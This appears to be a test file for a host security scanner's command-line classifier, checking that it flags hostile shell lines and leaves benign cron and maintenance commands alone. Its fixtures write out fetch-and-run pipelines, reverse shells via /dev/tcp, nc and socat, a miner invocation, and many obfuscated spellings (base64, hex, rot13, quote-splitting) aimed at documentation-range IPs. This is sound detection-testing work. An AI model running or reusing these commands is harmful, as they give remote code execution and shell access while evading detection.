import { classifyCommand, commandPrograms } from '../../src/scan/rules/command-line.js';
import { parseShell } from '../../src/scan/rules/shell-parse.js';
import { cron } from '../../src/scan/detectors/cron.js';
import { authorizedKeys } from '../../src/scan/detectors/authorized-keys.js';
import { hostileRoot } from '../helpers/hostile.js';
import { runOn } from '../helpers/persist.js';

const rules = (c: string) => classifyCommand(c).map((s) => s.rule);
const worst = (c: string) => classifyCommand(c)[0]?.severity ?? 'none';

describe('command-line rules', () => {
  it.each([
    ['curl -fsSL http://203.0.113.5/x.sh | sh', 'fetch-exec'],
    ['wget -q -O- http://203.0.113.5/x | bash', 'fetch-exec'],
    ['bash -c "$(curl -s http://203.0.113.5/i)"', 'fetch-exec'],
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'reverse-shell'],
    ['nc -e /bin/sh 198.51.100.7 4444', 'reverse-shell'],
    ['socat exec:"bash -li",pty tcp:198.51.100.7:4444', 'reverse-shell'],
    ['echo aGVsbG8= | base64 -d | sh', 'encoded-payload'],
    ['python3 -c "import pty;pty.spawn(\'/bin/sh\')"', 'inline-interpreter'],
    ['/tmp/.x/run', 'writable-dir'],
    ['/dev/shm/kworker', 'writable-dir'],
    ['/home/u/.cache2/.hidden/bin', 'hidden-path'],
    ['./xmrig --url stratum+tcp://pool.example.com:3333', 'miner'],
  ])('%s → %s', (cmd, rule) => {
    expect(rules(cmd)).toContain(rule);
  });

  it.each([
    'cd / && run-parts --report /etc/cron.hourly',
    '/home/deploy/app/.venv/bin/gunicorn --workers 3 app.wsgi',
    'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }',
    '/usr/bin/python3 /usr/share/unattended-upgrades/unattended-upgrade-shutdown --wait-for-signal',
    'curl -fsS https://example.com/health',
    'curl -fsS https://example.com/health | shasum -a 256',
    'wget -q -O /srv/backup/db.sql.gz https://example.com/dump && gunzip -t /srv/backup/db.sql.gz',
    'env LC_ALL=C /usr/bin/sort -u /var/log/app.log',
    'sudo -u deploy /home/deploy/app/bin/reindex --once',
    'echo "$(date) backup done" >> /var/log/backup.log',
    'command -v curl >/dev/null && curl -fsS https://example.com/ping',
    'if [ "$frontend" = noninteractive ]; then',
    'sh /usr/share/doc/example/run.sh',
    'nice -n 19 ionice -c3 /usr/bin/rsync -a /srv/data/ backup@192.0.2.10:/backup/',
  ])('benign: %s', (cmd) => {
    expect(rules(cmd)).toEqual([]);
  });
});

describe('command lines are judged as the shell would run them (issue 19)', () => {
  // every spelling of the issue's table, and more: each must be critical
  it.each([
    ['the plain spelling', 'curl -s http://198.51.100.7/s | sh'],
    ['program paths', '/usr/bin/curl -s http://198.51.100.7/s | /bin/sh'],
    ['wget and bash by path', '/usr/bin/wget -qO- http://198.51.100.7/s | /bin/bash'],
    ['busybox applets', 'busybox wget -O- http://198.51.100.7/s | busybox sh'],
    ['env prefixes', 'env curl http://198.51.100.7/s | env sh'],
    ['quote-split words', "c''url http://198.51.100.7/s | sh"],
    ['double-quote-split words', 'cu""rl http://198.51.100.7/s | s""h'],
    ['backslash-split words', 'c\\url http://198.51.100.7/s|s\\h'],
    ['ANSI-C hex escapes', "$'\\x63\\x75\\x72\\x6c' http://198.51.100.7/s | sh"],
    ['ANSI-C octal escapes', "$'\\143\\165\\162\\154' http://198.51.100.7/s | sh"],
    ['sudo with options, bash -s', 'sudo -u root -H /usr/bin/curl http://198.51.100.7/s | sudo bash -s'],
    ['nohup setsid timeout nice', 'nohup setsid timeout 30 nice -n 19 /usr/bin/wget -O- http://198.51.100.7/s | /bin/sh &'],
    ['command and exec', 'command curl http://198.51.100.7/s | exec sh'],
    ['env with assignments and -i', 'env -i PATH=/usr/bin curl http://198.51.100.7/s | env -i sh'],
    ['env -S', 'env -S "curl http://198.51.100.7/s" | sh'],
    ['doas and stdbuf', 'doas stdbuf -oL curl http://198.51.100.7/s | doas sh'],
    ['a variable assignment before the program', 'LC_ALL=C curl http://198.51.100.7/s | LANG=C sh'],
    ['zsh and python as the runner', 'curl http://198.51.100.7/s | zsh'],
    ['python reading stdin', 'wget -qO- http://198.51.100.7/s.py | python3 -'],
    ['$(…) fed to sh -c', 'sh -c "$(/usr/bin/curl -fsSL http://198.51.100.7/s)"'],
    ['backticks fed to bash -c', 'bash -c "`wget -qO- http://198.51.100.7/s`"'],
    ['eval of a download', 'eval "$(curl -s http://198.51.100.7/s)"'],
    ['process substitution', 'bash <(curl -s http://198.51.100.7/s)'],
    ['process substitution on stdin', 'bash < <(wget -qO- http://198.51.100.7/s)'],
    ['source of a process substitution', 'source <(curl -s http://198.51.100.7/s)'],
    ['here-string of a download', 'bash <<< "$(curl -s http://198.51.100.7/s)"'],
    ['a pipeline inside $(…)', 'echo "$(curl -s http://198.51.100.7/s | sh)"'],
    ['a subshell stage', '(curl -s http://198.51.100.7/s) | sh'],
    ['a group stage', '{ /usr/bin/curl -s http://198.51.100.7/s; } | /bin/sh'],
    ['su -c', 'su - root -c "curl http://198.51.100.7/s | sh"'],
    ['a nested sh -c', "sh -c 'bash -c \"wget -O- http://198.51.100.7/s | sh\"'"],
    ['variables glued into the program name', 'a=cu;b=rl;$a$b http://198.51.100.7/s|sh'],
    ['${IFS} as the separator', 'curl${IFS}http://198.51.100.7/s|sh'],
    ['an empty $@ inside the name', 'cu$@rl http://198.51.100.7/s | s$@h'],
    ['the program from backticks', '`echo curl` http://198.51.100.7/s | sh'],
    ['part of the program from $(…)', '$(printf cu)rl http://198.51.100.7/s | sh'],
    ['the program decoded from base64', '$(echo Y3VybA== | base64 -d) http://198.51.100.7/s | sh'],
    ['base64 payload piped to bash', 'echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3MgfCBzaA== | base64 -d | bash'],
    ['base64 payload in a here-string', 'base64 --decode <<< Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3MgfCBzaA== | sh'],
    ['base64 payload fed to sh -c', 'sh -c "$(echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3MgfCBzaA== | base64 -d)"'],
    ['base64 of a reverse shell', 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx | base64 -d | bash'],
    ['gzip+base64 payload', 'echo H4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1ze0tNAzNdQzNDDQM9cvVqhRKM7gAgDaN4u/IwAAAA== | base64 -d | gunzip | sh'],
    ['hex payload through xxd', 'echo 6375726c202d7320687474703a2f2f3139382e35312e3130302e372f73207c207368 | xxd -r -p | sh'],
    ['printf hex escapes', "printf '\\x63\\x75\\x72\\x6c http://198.51.100.7/s | sh' | sh"],
    ['echo -e octal escapes', "echo -e '\\0143url http://198.51.100.7/s | sh' | bash"],
    ['rev payload', "echo 'hs | s/7.001.15.891//:ptth lruc' | rev | sh"],
    ['rot13 payload', "echo 'phey uggc://198.51.100.7/f | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"],
    ['python exec of a base64 reverse shell', "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcztzPXNvY2tldC5zb2NrZXQoKTtzLmNvbm5lY3QoKCIxOTguNTEuMTAwLjciLDQ0NDQpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk='))\""],
    ['a cron line running a maintainer script', '/bin/sh /var/lib/dpkg/info/libfoo.postinst configure'],
    ['a unit running a maintainer script through env', '/usr/bin/env bash /var/lib/dpkg/info/openssh-server.prerm upgrade'],
  ])('%s: %s', (_what, cmd) => {
    expect(worst(cmd)).toBe('critical');
  });

  it('an authorized key forced command with a path-spelled fetch is critical (was an inventory line)', () => {
    expect(rules('/usr/bin/wget -qO- http://198.51.100.7/s | /bin/bash')).toContain('fetch-exec');
  });

  it('the reason says where a decoded payload came from', () => {
    const s = classifyCommand('echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3MgfCBzaA== | base64 -d | bash');
    expect(s[0]).toMatchObject({ rule: 'fetch-exec', severity: 'critical' });
    expect(s[0]!.reason).toMatch(/base64/);
  });

  it('sees the program behind wrappers, wherever it lives', () => {
    expect(rules('nohup env LD_X=1 /var/tmp/.x/agent >/dev/null 2>&1 &')).toEqual(expect.arrayContaining(['writable-dir']));
    expect(rules("sudo -u root timeout 10 /t''mp/x")).toContain('writable-dir');
    expect(commandPrograms('nohup setsid /usr/bin/env /opt/app/bin/worker --once | logger -t app')).toEqual(['/opt/app/bin/worker', 'logger']);
    expect(commandPrograms('command -v curl')).toEqual([]);
  });

  it('stays calm on hostile input: a 1 MB line, deep nesting, unbalanced quotes', () => {
    const t0 = Date.now();
    expect(worst('x'.repeat(1024 * 1024) + ' ; curl http://198.51.100.7/s | sh')).toBe('critical');
    expect(worst('$('.repeat(5000) + 'curl http://198.51.100.7/s | sh')).toBe('critical');
    expect(() => classifyCommand('echo "unterminated \' $( ` ${ <(')).not.toThrow();
    expect(() => classifyCommand('`'.repeat(10000))).not.toThrow();
    expect(Date.now() - t0).toBeLessThan(20_000);
  });
});

describe('shell reader', () => {
  it('joins quote-split words and decodes escapes', () => {
    const c = parseShell(`c''u"r"l $'\\x2d'fsS a\\ b`).pipelines[0]!.stages[0]![0]!;
    expect(c.words.map((w) => w.value)).toEqual(['curl', '-fsS', 'a b']);
  });

  it('splits pipelines, lists and redirections, and parses substitution bodies', () => {
    const l = parseShell('a | b 2>&1 && c <(d) ; e "$(f | g)" &');
    expect(l.pipelines.map((p) => p.stages.map((s) => s.map((c) => c.words[0]?.value)))).toEqual([[['a'], ['b']], [['c']], [['e']]]);
    expect(l.pipelines[0]!.stages[1]![0]!.redirects).toEqual([expect.objectContaining({ op: '>&' })]);
    expect(l.pipelines[2]!.background).toBe(true);
    const sub = l.pipelines[2]!.stages[0]![0]!.words[1]!.subs[0]!;
    expect(sub.body.pipelines[0]!.stages.map((s) => s[0]!.words[0]!.value)).toEqual(['f', 'g']);
  });

  it('keeps comments out and ${IFS} as a word break', () => {
    expect(parseShell('curl${IFS}-s # | sh').pipelines[0]!.stages[0]![0]!.words.map((w) => w.value)).toEqual(['curl', '-s']);
  });
});

describe('the same normaliser serves every place that runs a command line (hostile case 90)', () => {
  it('every obfuscated cron line is critical', async () => {
    const res = await runOn(cron, hostileRoot());
    const lines = res.findings.filter((f) => f.path === '/etc/cron.d/0sync');
    expect(lines.map((f) => [f.line, f.severity]).sort()).toEqual([2, 3, 4, 5, 6, 7, 8].map((l) => [l, 'critical']));
  });

  it('a forced command spelled with paths makes the key critical, not an inventory line', async () => {
    const res = await runOn(authorizedKeys, hostileRoot());
    const key = res.findings.find((f) => f.path === '/root/.ssh/authorized_keys' && /AAAAIDaio3LY/.test(f.evidence ?? ''));
    expect(key?.severity).toBe('critical');
  });
});
